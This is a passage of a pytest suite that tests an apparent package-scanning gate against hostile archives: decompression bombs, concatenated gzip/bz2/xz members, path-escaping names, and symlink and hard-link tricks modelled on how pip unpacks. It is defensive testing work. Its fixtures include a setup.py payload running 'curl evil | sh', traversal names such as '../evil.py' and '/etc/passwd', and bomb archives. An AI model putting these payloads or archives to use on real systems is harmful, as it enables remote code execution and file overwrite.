"""Hostile-archive tests for mphunter_gate.fetch.archive.

Every archive here is assembled in memory from bytes the test writes; the
caps are monkeypatched small so bombs are cheap to build and fast to refuse.
"""

from __future__ import annotations

import ast
import bz2
import gzip
import io
import lzma
import os
import random
import stat
import struct
import tarfile
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from mphunter_gate import select as selection
from mphunter_gate.errors import ArchiveError
from mphunter_gate.fetch import archive
from mphunter_gate.fetch.archive import DirTree, MemoryTree, TarTree, ZipTree, decode, open_tree
from mphunter_gate.fetch.metadata import metadata_from_sdist

SETUP = b"from setuptools import setup\nsetup(name='demo')\n"


def _tar(members: list[tarfile.TarInfo | tuple[str, bytes]], compress: str = "") -> bytes:
    """A tar holding regular files (name, data) and raw TarInfo entries (links, devices)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for m in members:
            if isinstance(m, tarfile.TarInfo):
                tar.addfile(m)
            else:
                name, data = m
                ti = tarfile.TarInfo(name)
                ti.size = len(data)
                tar.addfile(ti, io.BytesIO(data))
    raw = buf.getvalue()
    return {
        "": lambda d: d,
        "gz": lambda d: gzip.compress(d, mtime=0),
        "bz2": bz2.compress,
        "xz": lzma.compress,
    }[compress](raw)


def _special(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.linkname = linkname
    return ti


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _entry(
    name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, linkname: str = ""
) -> bytes:
    """One raw tar entry (header and padded data) with no end-of-archive marker, so
    entries can be split across compressed members the way an attacker would."""
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.linkname = linkname
    ti.size = len(data) if kind == tarfile.REGTYPE else 0
    header = ti.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape")
    return header + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)


#: The end-of-archive marker (two zero blocks), padded to a record as tarfile writes it.
END = b"\0" * tarfile.RECORDSIZE


def _sym(name: str, target: str) -> bytes:
    return _entry(name, kind=tarfile.SYMTYPE, linkname=target)


def _hard(name: str, target: str) -> bytes:
    return _entry(name, kind=tarfile.LNKTYPE, linkname=target)


def _dir(name: str) -> bytes:
    return _entry(name, kind=tarfile.DIRTYPE)


def _contents(tree: archive.Tree) -> dict[str, bytes]:
    return {n: tree.read(n) for n in tree.names()}


# -- formats ----------------------------------------------------------------------


@pytest.mark.parametrize("compress", ["", "gz", "bz2", "xz"])
def test_tar_formats_read_in_memory(compress: str) -> None:
    data = _tar([("demo-1.0/setup.py", SETUP), ("demo-1.0/demo/__init__.py", b"X = 1\n")], compress)
    tree = open_tree(data, f"demo-1.0.tar.{compress or 'x'}")
    assert isinstance(tree, TarTree)
    assert sorted(tree.names()) == ["demo-1.0/demo/__init__.py", "demo-1.0/setup.py"]
    assert tree.read("demo-1.0/setup.py") == SETUP


def test_zip_sdist_and_wheel() -> None:
    tree = open_tree(_zip({"demo-1.0/setup.py": SETUP, "demo-1.0/": b""}), "demo-1.0.zip")
    assert isinstance(tree, ZipTree)
    assert tree.names() == ["demo-1.0/setup.py"]  # the folder entry is not a file
    wheel = open_tree(_zip({"demo/__init__.py": b"A = 2\n"}), "demo-1.0-py3-none-any.whl")
    assert wheel.read("demo/__init__.py") == b"A = 2\n"


def test_reader_chosen_by_content_not_extension() -> None:
    tree = open_tree(_zip({"demo-1.0/setup.py": SETUP}), "demo-1.0.tar.gz")
    assert isinstance(tree, ZipTree)
    assert tree.read("demo-1.0/setup.py") == SETUP


def test_read_of_unknown_member_is_keyerror() -> None:
    tree = open_tree(_tar([("a/setup.py", SETUP)], "gz"), "a.tar.gz")
    with pytest.raises(KeyError):
        tree.read("a/other.py")


# -- one file over MAX_MEMBER: refused, never cut ---------------------------------------


def test_member_cap_is_64_mib() -> None:
    assert archive.MAX_MEMBER == 64 * 1024 * 1024


@pytest.mark.parametrize(
    ("data", "fname"),
    [
        (_tar([("a/big.py", b"x" * 100), ("a/ok.py", b"y" * 10)], "gz"), "a.tar.gz"),  # kept
        (_tar([("a/big.bin", b"x" * 100), ("a/ok.bin", b"y" * 10)], ""), "a.tar"),  # 2nd pass
        (_zip({"a/big.py": b"x" * 100, "a/ok.py": b"y" * 10}), "a.zip"),
    ],
)
def test_member_over_the_cap_is_archive_error_not_a_prefix(
    monkeypatch: pytest.MonkeyPatch, data: bytes, fname: str
) -> None:
    """Before, read() returned the first MAX_MEMBER bytes: a payload past the cut went unseen."""
    monkeypatch.setattr(archive, "MAX_MEMBER", 10)
    tree = open_tree(data, fname)
    big, ok = sorted(tree.names())
    with pytest.raises(ArchiveError, match=r"over the .* cap"):
        tree.read(big)
    assert tree.read(ok) == b"y" * 10  # exactly at the cap: read whole


def test_member_over_the_cap_in_memory_and_folder_trees(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(archive, "MAX_MEMBER", 10)
    (tmp_path / "big.py").write_bytes(b"x" * 11)
    (tmp_path / "ok.py").write_bytes(b"y" * 10)
    for tree in (DirTree(tmp_path), MemoryTree({"big.py": b"x" * 11, "ok.py": b"y" * 10})):
        with pytest.raises(ArchiveError, match=r"over the .* cap"):
            tree.read("big.py")
        assert tree.read("ok.py") == b"y" * 10


def test_later_member_of_same_name_wins() -> None:
    data = _tar([("a/setup.py", b"first\n"), ("a/setup.py", b"second\n")], "gz")
    tree = open_tree(data, "a.tar.gz")
    assert tree.read("a/setup.py") == b"second\n"
    assert tree.duplicates() == ["a/setup.py"]


def test_no_duplicates_in_a_plain_archive() -> None:
    assert open_tree(_tar([("a/setup.py", SETUP)], "gz"), "a.tar.gz").duplicates() == []
    assert open_tree(_zip({"a/": b"", "a/setup.py": SETUP}), "a.zip").duplicates() == []


def test_folder_entry_of_a_files_name_leaves_the_file() -> None:
    """mkdir over an existing file fails quietly in tarfile: the file is what stays on disk."""
    data = gzip.compress(_entry("a/setup.py", SETUP) + _dir("a/setup.py") + END, mtime=0)
    tree = open_tree(data, "a.tar.gz")
    assert tree.names() == ["a/setup.py"]
    assert tree.read("a/setup.py") == SETUP
    assert tree.duplicates() == ["a/setup.py"]


def test_file_over_a_folder_is_archive_error() -> None:
    """pip fails with IsADirectoryError there: nothing is installed."""
    data = gzip.compress(_dir("a/setup.py") + _entry("a/setup.py", SETUP) + END, mtime=0)
    with pytest.raises(ArchiveError, match="over a folder"):
        open_tree(data, "a.tar.gz")


def test_file_under_a_file_is_archive_error() -> None:
    data = gzip.compress(_entry("a/mod", b"x") + _entry("a/mod/x.py", b"y") + END, mtime=0)
    with pytest.raises(ArchiveError, match="a file"):
        open_tree(data, "a.tar.gz")


# -- concatenated compressed members, read as GzipFile / BZ2File / LZMAFile do -------------


_FIRST = _entry("demo-1.0/PKG-INFO", b"Metadata-Version: 1.0\n") + _entry(
    "demo-1.0/setup.py", SETUP
)
_OVERRIDE = b"import os\nos.system('curl evil | sh')\n"
_SECOND = _entry("demo-1.0/setup.py", _OVERRIDE) + END
_COMPRESS: dict[str, Callable[[bytes], bytes]] = {
    "gz": lambda d: gzip.compress(d, mtime=0),
    "bz2": bz2.compress,
    "xz": lzma.compress,
}


@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
def test_second_compressed_member_overriding_setup_py_is_read(compress: str) -> None:
    """The tar goes on in the next member (no end marker in the first): pip reads it all."""
    pack = _COMPRESS[compress]
    data = pack(_FIRST) + pack(_SECOND)
    tree = open_tree(data, f"demo-1.0.tar.{compress}")
    assert tree.read("demo-1.0/setup.py") == _OVERRIDE
    assert tree.duplicates() == ["demo-1.0/setup.py"]
    assert sorted(tree.names()) == ["demo-1.0/PKG-INFO", "demo-1.0/setup.py"]


@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
def test_many_members_and_a_member_holding_no_data(compress: str) -> None:
    pack = _COMPRESS[compress]
    entries = [_entry(f"demo-1.0/m{i}.py", b"x = %d\n" % i) for i in range(5)]
    data = b"".join(pack(e) for e in entries) + pack(b"") + pack(END)
    tree = open_tree(data, f"demo-1.0.tar.{compress}")
    assert sorted(tree.names()) == [f"demo-1.0/m{i}.py" for i in range(5)]


def test_zero_padding_after_and_between_gzip_members_is_skipped() -> None:
    pack = _COMPRESS["gz"]
    data = pack(_FIRST) + b"\0" * 20_000 + pack(_SECOND) + b"\0" * 3
    assert open_tree(data, "demo-1.0.tar.gz").read("demo-1.0/setup.py") == _OVERRIDE


@pytest.mark.parametrize("garbage", [b"garbage", b"\0\0junk", b"\x1f", b"PK\x05\x06" + b"\0" * 18])
def test_bytes_after_a_gzip_member_that_are_no_member_are_archive_error(garbage: bytes) -> None:
    """GzipFile raises BadGzipFile on them; the gate refuses the archive rather than guess."""
    data = _COMPRESS["gz"](_FIRST + END) + garbage
    with pytest.raises(ArchiveError, match="not another member"):
        open_tree(data, "demo-1.0.tar.gz")


def test_truncated_second_gzip_member_is_archive_error() -> None:
    pack = _COMPRESS["gz"]
    second = pack(_SECOND)
    with pytest.raises(ArchiveError):
        open_tree(pack(_FIRST) + second[: len(second) // 2], "demo-1.0.tar.gz")


def test_corrupt_second_gzip_member_is_archive_error() -> None:
    pack = _COMPRESS["gz"]
    second = bytearray(pack(_SECOND))
    second[12:20] = b"\xff" * 8
    with pytest.raises(ArchiveError):
        open_tree(pack(_FIRST) + bytes(second), "demo-1.0.tar.gz")


@pytest.mark.parametrize("compress", ["bz2", "xz"])
@pytest.mark.parametrize("garbage", [b"garbage", b"PK\x03\x04 not a stream", b"\xff" * 9000])
def test_trailing_bytes_after_a_bz2_or_xz_stream_are_ignored(compress: str, garbage: bytes) -> None:
    """BZ2File and LZMAFile stop at bytes that do not start a stream; so does the gate."""
    pack = _COMPRESS[compress]
    tree = open_tree(pack(_FIRST) + pack(_SECOND) + garbage, f"demo-1.0.tar.{compress}")
    assert tree.read("demo-1.0/setup.py") == _OVERRIDE


def _stdlib_inflate(compress: str, data: bytes) -> bytes:
    """What pip's reader of that kind (GzipFile, BZ2File, LZMAFile) yields, read to the end."""
    f = io.BytesIO(data)
    if compress == "gz":
        with gzip.GzipFile(fileobj=f) as gz:
            return gz.read()
    if compress == "bz2":
        with bz2.BZ2File(f) as bz:
            return bz.read()
    with lzma.LZMAFile(f) as xz:
        return xz.read()


_TAILS = {
    "nothing": b"",
    "one-zero": b"\0",
    "four-zeros": b"\0" * 4,
    "a-block-of-zeros": b"\0" * 9000,
    "garbage": b"garbage",
    "bz2-magic": b"BZh9",
    "gzip-magic": b"\x1f\x8b",
    "xz-magic": b"\xfd7zXZ\x00",
}


@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
@pytest.mark.parametrize("tail", _TAILS.values(), ids=_TAILS.keys())
@pytest.mark.parametrize("streams", [1, 2])
def test_inflating_ends_or_fails_exactly_where_the_stdlib_reader_does(
    compress: str, tail: bytes, streams: int
) -> None:
    """The stream pip reads through (GzipFile/BZ2File/LZMAFile) against the gate's, to the end."""
    pack = _COMPRESS[compress]
    payload = random.Random(compress).randbytes(30_000)
    data = b"".join(pack(payload[i::streams]) for i in range(streams)) + tail
    try:
        expected: bytes | None = _stdlib_inflate(compress, data)
    except (OSError, EOFError, lzma.LZMAError, zlib.error):
        expected = None
    ours = archive._Inflating(data, "x", compress)
    try:
        got: bytes | None = ours.readall()
    except ArchiveError:
        got = None
    assert got == expected


@pytest.mark.parametrize("compress", ["bz2", "xz"])
def test_truncated_second_bz2_or_xz_stream_is_archive_error(compress: str) -> None:
    """A second stream that starts validly but is cut is a corrupt stream, not trailing bytes."""
    pack = _COMPRESS[compress]
    second = pack(_SECOND)
    with pytest.raises(ArchiveError):
        open_tree(pack(_FIRST) + second[: len(second) - 20], f"demo-1.0.tar.{compress}")


@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
def test_bomb_caps_count_every_member(monkeypatch: pytest.MonkeyPatch, compress: str) -> None:
    """Each member alone is under MAX_UNPACKED; together they are over it."""
    monkeypatch.setattr(archive, "MAX_UNPACKED", 1 << 20)
    pack = _COMPRESS[compress]
    part = _entry("a-1.0/zeros.bin", b"\0" * (400 << 10))
    assert len(pack(part)) < 16 << 10
    open_tree(pack(part) + pack(END), f"a-1.0.tar.{compress}")  # one member: under the cap
    with pytest.raises(ArchiveError, match="bomb"):
        open_tree(b"".join(pack(part) for _ in range(3)) + pack(END), f"a-1.0.tar.{compress}")


# -- decompression bombs -------------------------------------------------------------


@pytest.mark.parametrize("compress", ["gz", "bz2", "xz"])
def test_decompression_bomb_is_refused(monkeypatch: pytest.MonkeyPatch, compress: str) -> None:
    monkeypatch.setattr(archive, "MAX_UNPACKED", 1 << 20)
    bomb = _tar([("bomb-1.0/zeros.bin", b"\0" * (3 << 20))], compress)
    assert len(bomb) < 64 << 10  # tiny on the wire
    with pytest.raises(ArchiveError, match="bomb"):
        open_tree(bomb, f"bomb-1.0.tar.{compress}")


def test_tar_under_the_cap_is_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_UNPACKED", 1 << 20)
    ok = _tar([("a-1.0/zeros.bin", b"\0" * (256 << 10))], "gz")
    assert open_tree(ok, "a-1.0.tar.gz").names() == ["a-1.0/zeros.bin"]


def test_tar_ratio_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_RATIO_FLOOR", 64 << 10)
    monkeypatch.setattr(archive, "MAX_RATIO", 20)
    bomb = _tar([("a-1.0/zeros.bin", b"\0" * (1 << 20))], "gz")  # ~1000x
    with pytest.raises(ArchiveError, match="bomb"):
        open_tree(bomb, "a-1.0.tar.gz")


def test_zip_bomb_by_declared_sizes() -> None:
    """A central directory that declares 4 GiB is refused before anything is inflated."""
    data = bytearray(_zip({"bomb/a.py": b"x = 1\n"}))
    cd = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, 0xFFFF0000)  # uncompressed size field
    with pytest.raises(ArchiveError, match="bomb"):
        open_tree(bytes(data), "bomb-1.0.zip")


def test_zip_bomb_by_real_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MAX_UNPACKED", 1 << 20)
    with pytest.raises(ArchiveError, match="bomb"):
        open_tree(_zip({"bomb/zeros.bin": b"\0" * (2 << 20)}), "bomb.zip")


def test_zip_that_understates_its_size_never_yields_more() -> None:
    """Declared sizes bound what is read: a member lying small fails its CRC, not the cap."""
    data = bytearray(_zip({"a/setup.py": b"y" * 5000}))
    for sig, off in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        pos = data.index(sig)
        struct.pack_into("<I", data, pos + off, 10)
    tree = open_tree(bytes(data), "a.zip")
    with pytest.raises(ArchiveError):
        tree.read("a/setup.py")


# -- streaming: only what a scan reads is kept -----------------------------------------------


def _traced(build: Callable[[], object]) -> tuple[object, int, int]:
    """What `build` returns, the peak of Python memory while it ran, and what it still holds."""
    tracemalloc.start()
    try:
        result = build()
        held, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak, held


@pytest.mark.parametrize("compress", ["", "gz"])
def test_big_data_member_is_streamed_past_not_held(compress: str) -> None:
    blob = random.Random(7).randbytes(16 << 20)  # incompressible: the ratio cap stays quiet
    data = _tar([("a-1.0/setup.py", SETUP), ("a-1.0/blob.bin", blob)], compress)
    tree, peak, held = _traced(lambda: open_tree(data, f"a-1.0.tar.{compress or 'x'}"))
    assert isinstance(tree, TarTree)
    assert sorted(tree.names()) == ["a-1.0/blob.bin", "a-1.0/setup.py"]
    assert peak < 2 << 20  # the inflated tar is 16+ MiB
    assert held < 1 << 20


@pytest.mark.parametrize("compress", ["", "gz", "bz2"])
def test_member_not_kept_is_read_by_a_second_pass(compress: str) -> None:
    blob = random.Random(8).randbytes(6 << 20)  # over the old 5 MiB cut: read whole now
    data = _tar(
        [
            ("a-1.0/blob.bin", b"an earlier entry of the same name\n"),
            ("a-1.0/setup.py", SETUP),
            ("a-1.0/blob.bin", blob),
            ("a-1.0/README.rst", b"Demo\n"),
        ],
        compress,
    )
    tree = open_tree(data, f"a-1.0.tar.{compress or 'x'}")
    assert tree.read("a-1.0/blob.bin") == blob  # the later entry, whole
    assert tree.read("a-1.0/README.rst") == b"Demo\n"
    assert tree.read("a-1.0/setup.py") == SETUP


def _count_passes(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts the streaming passes TarTrees make over their archives."""
    passes: list[int] = []
    real_open = TarTree._open

    def counting(self: TarTree) -> tuple[tarfile.TarFile, object]:
        passes.append(1)
        return real_open(self)

    monkeypatch.setattr(TarTree, "_open", counting)
    return passes


def test_py_member_is_kept_so_reading_it_takes_no_second_pass(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    passes = _count_passes(monkeypatch)
    data = _tar([("a-1.0/setup.py", SETUP), ("a-1.0/data.bin", b"\x00\x01" * 1000)], "gz")
    tree = open_tree(data, "a-1.0.tar.gz")
    assert len(passes) == 1
    assert tree.read("a-1.0/setup.py") == SETUP
    assert len(passes) == 1
    assert tree.read("a-1.0/data.bin") == b"\x00\x01" * 1000
    assert len(passes) == 2  # the control: a member that is not kept costs a pass


def test_every_file_a_scan_reads_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    """selection.select and metadata_from_sdist on an sdist read nothing by a second pass."""
    sdist = _tar(
        [
            (
                "demo-1.0/PKG-INFO",
                b"Metadata-Version: 1.0\nName: demo\nVersion: 1.0\nRequires-Python: >=3.8\n",
            ),
            (
                "demo-1.0/pyproject.toml",
                b'[build-system]\nbackend-path = ["_build"]\nbuild-backend = "backend"\n',
            ),
            ("demo-1.0/setup.cfg", b"[options]\ninstall_requires =\n    six\n"),
            ("demo-1.0/setup.py", b"import helper\nsetup(extras_require={'cli': ['click']})\n"),
            ("demo-1.0/helper.py", b"X = 1\n"),
            ("demo-1.0/_build/backend.py", b"def build_sdist(d): pass\n"),
            ("demo-1.0/demo/__init__.py", b"from . import core\n"),
            ("demo-1.0/demo/core.py", b"Y = 2\n"),
            ("demo-1.0/demo-hook.pth", b"import os\n"),
            ("demo-1.0/demo/table.bin", random.Random(9).randbytes(64 << 10)),
            ("demo-1.0/README.txt", b"Demo\n"),
        ],
        "gz",
    )
    passes = _count_passes(monkeypatch)
    meta = metadata_from_sdist(sdist, "demo-1.0.tar.gz")
    # PKG-INFO (Requires-Python), setup.cfg (six) and setup.py (the extra) were all read
    assert meta.requires_python == ">=3.8"
    assert meta.requires_dist == ("six", 'click; extra == "cli"')
    assert len(passes) == 1
    scripts = selection.select(open_tree(sdist, "demo-1.0.tar.gz"))
    assert {s.path for s in scripts} == {
        "demo-1.0/setup.py",
        "demo-1.0/helper.py",
        "demo-1.0/_build/backend.py",
        "demo-1.0/demo/__init__.py",
        "demo-1.0/demo/core.py",
        "demo-1.0/demo-hook.pth",
    }
    assert len(passes) == 2  # one per tree: construction only


@pytest.mark.parametrize("compress", ["", "gz"])
def test_truncated_inside_a_member_not_kept_is_archive_error(compress: str) -> None:
    raw = _tar([("a/setup.py", SETUP), ("a/data.bin", b"d" * 50_000), ("a/z.py", SETUP)])
    cut = raw[: raw.index(b"d" * 100) + 20_000]
    data = {"": cut, "gz": gzip.compress(cut, mtime=0)}[compress]
    with pytest.raises(ArchiveError):
        open_tree(data, f"a.tar.{compress or 'x'}")


def test_bomb_after_the_end_of_the_tar_is_refused_a_chunk_at_a_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Zeros past the tar's end marker, inside the same compressed stream, still count."""
    monkeypatch.setattr(archive, "MAX_UNPACKED", 8 << 20)
    bomb = gzip.compress(_tar([("a-1.0/setup.py", SETUP)]) + b"\0" * (32 << 20), mtime=0)
    assert len(bomb) < 64 << 10

    def build() -> None:
        with pytest.raises(ArchiveError, match="bomb"):
            open_tree(bomb, "a-1.0.tar.gz")

    _, peak, _ = _traced(build)
    assert peak < 2 << 20  # inflating the whole stream at once held the full 8 MiB cap


# -- escaping names, links, devices ----------------------------------------------------------


ESCAPES = ["../evil.py", "demo-1.0/../../evil.py", "/etc/passwd", "..\\evil.py", "C:/evil.py", ".."]


@pytest.mark.parametrize("name", ESCAPES)
def test_tar_member_escaping_the_archive_is_refused(name: str) -> None:
    data = _tar([("demo-1.0/setup.py", SETUP), (name, b"print('x')\n")], "gz")
    with pytest.raises(ArchiveError, match="escape"):
        open_tree(data, "demo-1.0.tar.gz")


@pytest.mark.parametrize("name", ESCAPES)
def test_zip_member_escaping_the_archive_is_refused(name: str) -> None:
    with pytest.raises(ArchiveError, match="escape"):
        open_tree(_zip({"demo/setup.py": SETUP, name: b"x"}), "demo.zip")


def test_dotted_but_inside_names_are_normalised() -> None:
    data = _tar([("./demo-1.0/sub/../setup.py", SETUP)], "gz")
    assert open_tree(data, "demo-1.0.tar.gz").names() == ["demo-1.0/setup.py"]


HIDDEN = b"import os\nos.system('x')\n"


def test_tar_links_inside_the_package_are_read_as_pip_extracts_them() -> None:
    """pip (PEP 706 data filter) makes links that stay inside: the gate reads through them.

    Before, every link was left unread, so a setup.py that is a link to a
    payload made the package unscannable at best, and a module reached
    through a link was never read.
    """
    data = _tar(
        [
            ("demo-1.0/hidden.py", HIDDEN),
            _special("demo-1.0/setup.py", tarfile.SYMTYPE, "hidden.py"),
            _special("demo-1.0/passwd.py", tarfile.SYMTYPE, "/etc/passwd"),
            _special("demo-1.0/hard.py", tarfile.LNKTYPE, "demo-1.0/hidden.py"),
        ],
        "gz",
    )
    tree = open_tree(data, "demo-1.0.tar.gz")
    assert sorted(tree.names()) == ["demo-1.0/hard.py", "demo-1.0/hidden.py", "demo-1.0/setup.py"]
    assert tree.read("demo-1.0/setup.py") == HIDDEN
    assert tree.read("demo-1.0/hard.py") == HIDDEN
    assert tree.links() == ["demo-1.0/passwd.py"]  # absolute: pip's filter refuses it
    with pytest.raises(KeyError):
        tree.read("demo-1.0/passwd.py")


def test_symlink_reads_what_its_target_holds_at_the_end_of_the_archive() -> None:
    data = gzip.compress(
        _entry("demo-1.0/pkg/real.py", b"first\n")
        + _sym("demo-1.0/setup.py", "pkg/real.py")
        + _entry("demo-1.0/pkg/real.py", b"last\n")
        + END,
        mtime=0,
    )
    tree = open_tree(data, "demo-1.0.tar.gz")
    assert tree.read("demo-1.0/setup.py") == b"last\n"
    assert tree.read("demo-1.0/pkg/real.py") == b"last\n"


def test_symlink_chains_are_followed_up_to_the_os_limit() -> None:
    """Linux follows 40 links in one path (MAXSYMLINKS); the 41st makes it ELOOP."""

    def chain(n: int) -> archive.Tree:
        links = b"".join(_sym(f"d/l{i}.py", f"l{i + 1}.py") for i in range(n))
        body = _entry("d/setup.py", SETUP) + _entry(f"d/l{n}.py", HIDDEN) + links
        return open_tree(gzip.compress(body + END, mtime=0), "d.tar.gz")

    ok = chain(archive._MAX_HOPS)
    assert ok.read("d/l0.py") == HIDDEN
    too_long = chain(archive._MAX_HOPS + 1)
    assert "d/l0.py" in too_long.links() and "d/l0.py" not in too_long.names()
    assert too_long.read("d/l1.py") == HIDDEN  # 40 hops from there


@pytest.mark.parametrize(
    ("link", "why"),
    [
        (_sym("demo-1.0/setup.py", "../outside.py"), "leaves the package folder"),
        (_sym("demo-1.0/setup.py", "../../etc/passwd"), "leaves the archive"),
        (_sym("demo-1.0/setup.py", "/etc/passwd"), "absolute"),
        (_sym("demo-1.0/setup.py", "missing.py"), "missing member"),
        (_sym("demo-1.0/setup.py", "pkg"), "a folder"),
        (_sym("demo-1.0/setup.py", "setup.py"), "itself"),
        (_sym("demo-1.0/setup.py", "loop.py") + _sym("demo-1.0/loop.py", "setup.py"), "loop"),
        (_hard("demo-1.0/setup.py", "demo-1.0/missing.py"), "missing hard-link target"),
        (_hard("demo-1.0/setup.py", "demo-1.0/pkg"), "hard link to a folder"),
        (_hard("demo-1.0/setup.py", "../outside.py"), "hard link out of the package"),
    ],
)
def test_links_that_reach_no_file_inside_stay_unreadable(link: bytes, why: str) -> None:
    data = gzip.compress(_entry("demo-1.0/pkg/__init__.py", b"A = 1\n") + link + END, mtime=0)
    tree = open_tree(data, "demo-1.0.tar.gz")
    assert "demo-1.0/setup.py" in tree.links(), why
    assert "demo-1.0/setup.py" not in tree.names(), why
    assert tree.read("demo-1.0/pkg/__init__.py") == b"A = 1\n"
    with pytest.raises(ArchiveError, match="link"):
        selection.select(tree)  # the caller still refuses such a setup.py


def test_symlink_up_and_back_into_the_package_folder_leaves_it() -> None:
    """pip extracts into a folder of its own (the leading folder stripped): `..` from the
    top leaves it even when the path comes back to a name of the archive."""
    data = gzip.compress(
        _entry("demo-1.0/real.py", HIDDEN) + _sym("demo-1.0/setup.py", "../demo-1.0/real.py") + END,
        mtime=0,
    )
    assert open_tree(data, "demo-1.0.tar.gz").links() == ["demo-1.0/setup.py"]
    flat = gzip.compress(_entry("real.py", HIDDEN) + _sym("sub/setup.py", "../real.py") + END)
    assert open_tree(flat, "flat.tar.gz").read("sub/setup.py") == HIDDEN  # no leading folder


@pytest.mark.parametrize("target", ["demo-1.0/hidden.py", "hidden.py"])
def test_hard_link_target_is_relative_to_the_folder_pip_unpacks(target: str) -> None:
    """pip strips the leading folder from a hard link's target when it has one; a target
    without it is then already relative to the package folder."""
    data = gzip.compress(
        _entry("demo-1.0/hidden.py", HIDDEN) + _hard("demo-1.0/setup.py", target) + END
    )
    assert open_tree(data, "demo-1.0.tar.gz").read("demo-1.0/setup.py") == HIDDEN


def test_hard_link_sees_its_target_rewritten_later() -> None:
    """A later file of the target's name is written into the same inode."""
    data = gzip.compress(
        _entry("demo-1.0/a.py", b"first\n")
        + _hard("demo-1.0/setup.py", "demo-1.0/a.py")
        + _entry("demo-1.0/a.py", b"last\n")
        + END
    )
    assert _contents(open_tree(data, "demo-1.0.tar.gz")) == {
        "demo-1.0/a.py": b"last\n",
        "demo-1.0/setup.py": b"last\n",
    }


def test_file_written_over_a_symlink_rewrites_the_link_target() -> None:
    """open(name, "wb") follows the link: the later file's bytes land in the target too.

    Reading the later entry as setup.py only would leave hidden.py's real
    content (the payload a setup.py could import) unread.
    """
    data = gzip.compress(
        _entry("demo-1.0/hidden.py", b"benign\n")
        + _sym("demo-1.0/setup.py", "hidden.py")
        + _entry("demo-1.0/setup.py", HIDDEN)
        + END
    )
    tree = open_tree(data, "demo-1.0.tar.gz")
    assert _contents(tree) == {"demo-1.0/hidden.py": HIDDEN, "demo-1.0/setup.py": HIDDEN}
    assert tree.duplicates() == ["demo-1.0/setup.py"]


def test_hard_link_through_a_missing_folder_copies_the_archived_target() -> None:
    """`a/../b` cannot be walked while `a` does not exist: os.path.exists says no, and
    tarfile copies the last earlier member named `b` (its bytes then, not later ones)."""
    data = gzip.compress(
        _entry("b.py", b"then\n")
        + _hard("c.py", "a/../b.py")
        + _dir("a")
        + _entry("b.py", b"later\n")
    )
    assert _contents(open_tree(data, "x.tar.gz")) == {"b.py": b"later\n", "c.py": b"then\n"}
    linked = gzip.compress(
        _dir("a")
        + _entry("b.py", b"then\n")
        + _hard("c.py", "a/../b.py")
        + _entry("b.py", b"later\n")
    )
    assert _contents(open_tree(linked, "x.tar.gz")) == {"b.py": b"later\n", "c.py": b"later\n"}


def test_link_tarfile_cannot_make_is_dropped_not_refused() -> None:
    """A link under a file (ENOTDIR) is skipped by tarfile, which goes on."""
    data = gzip.compress(_entry("d/b", b"B") + _sym("d/b/x.py", "../c.py") + _entry("d/c.py", b"C"))
    tree = open_tree(data, "d.tar.gz")
    assert _contents(tree) == {"d/b": b"B", "d/c.py": b"C"}
    assert tree.links() == []


def test_file_written_through_a_symlinked_folder_lands_in_the_target_folder() -> None:
    data = gzip.compress(
        _dir("demo-1.0/real")
        + _sym("demo-1.0/alias", "real")
        + _entry("demo-1.0/alias/__init__.py", HIDDEN)
        + END
    )
    tree = open_tree(data, "demo-1.0.tar.gz")
    assert tree.names() == ["demo-1.0/real/__init__.py"]
    assert tree.read("demo-1.0/real/__init__.py") == HIDDEN
    assert tree.links() == ["demo-1.0/alias"]  # a link to a folder: not a file


@pytest.mark.parametrize(
    ("body", "match"),
    [
        (_sym("demo-1.0/out", "../..") + _entry("demo-1.0/out/x.py", b"x"), "leaves"),
        (_sym("demo-1.0/setup.py", "../x.py") + _entry("demo-1.0/setup.py", b"x"), "leaves"),
        (
            _entry("demo-1.0/a.py", b"A")
            + _entry("demo-1.0/b.py", b"B")
            + _hard("demo-1.0/b.py", "demo-1.0/a.py"),
            "existing",
        ),
        (
            _entry("demo-1.0/a.py", b"A")
            + _sym("demo-1.0/s.py", "a.py")
            + _hard("demo-1.0/h.py", "demo-1.0/s.py"),
            "symbolic link",
        ),
    ],
)
def test_writes_pip_cannot_make_or_unpacks_differently_are_archive_error(
    body: bytes, match: str
) -> None:
    with pytest.raises(ArchiveError, match=match):
        open_tree(gzip.compress(body + END), "demo-1.0.tar.gz")


def test_a_maze_of_links_fails_fast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "_MAX_STEPS", 500)
    links = b"".join(_sym(f"d/l{i}", "/".join(["."] * 30) + f"/l{i + 1}") for i in range(30))
    with pytest.raises(ArchiveError, match="too many"):
        open_tree(gzip.compress(links + END), "d.tar.gz")


@pytest.mark.parametrize("mode", [stat.S_IFLNK | 0o777, stat.S_IFIFO | 0o644, stat.S_IFCHR | 0o644])
def test_zip_entry_is_a_regular_file_whatever_its_mode_bits(mode: int) -> None:
